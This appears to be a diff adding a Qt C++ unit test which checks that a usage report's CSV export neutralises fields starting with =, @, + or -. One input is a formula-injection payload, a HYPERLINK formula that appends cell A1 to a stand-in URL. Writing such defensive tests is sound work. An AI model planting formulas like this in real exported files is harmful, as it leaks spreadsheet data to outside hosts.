@@ -398,6 +398,27 @@ private Q_SLOTS:
         QVERIFY(r.toCsv().endsWith(QStringLiteral("\"acme, \"\"east\"\"\",0,0,0,0,0,0.000000\r\n")));
     }
 
+    void csvNeverStartsAFieldWithAFormula() {
+        // A direct selector is the tenant's text: "o/=HYPERLINK(…)" landed in the model column as a
+        // formula that Excel and LibreOffice run, quoted or not (probe E3 3).
+        UsageReport r;
+        r.groupBy = UsageGrouping::Model;
+        for (const char *key :
+             {"=HYPERLINK(\"http://x.invalid/?\"&A1,\"see\")", "@SUM(A1:A9)", "+1-1", "-2", "gpt-4o"}) {
+            UsageTotals t;
+            t.key = QString::fromLatin1(key);
+            r.groups.append(t);
+        }
+        const QStringList lines = r.toCsv().split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
+        QCOMPARE(lines.size(), 6);
+        QCOMPARE(lines[1],
+                 QStringLiteral("\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"see\"\")\",0,0,0,0,0,0.000000"));
+        QCOMPARE(lines[2], QStringLiteral("'@SUM(A1:A9),0,0,0,0,0,0.000000"));
+        QCOMPARE(lines[3], QStringLiteral("'+1-1,0,0,0,0,0,0.000000"));
+        QCOMPARE(lines[4], QStringLiteral("'-2,0,0,0,0,0,0.000000"));
+        QCOMPARE(lines[5], QStringLiteral("gpt-4o,0,0,0,0,0,0.000000"));
+    }
+
     void timeBoundsParse() {
         const qint64 now = localMs(2026, 1, 12, 15);
         QCOMPARE(*parseTimeBound(QStringLiteral("7d"), now), now - 7 * 86'400'000LL);
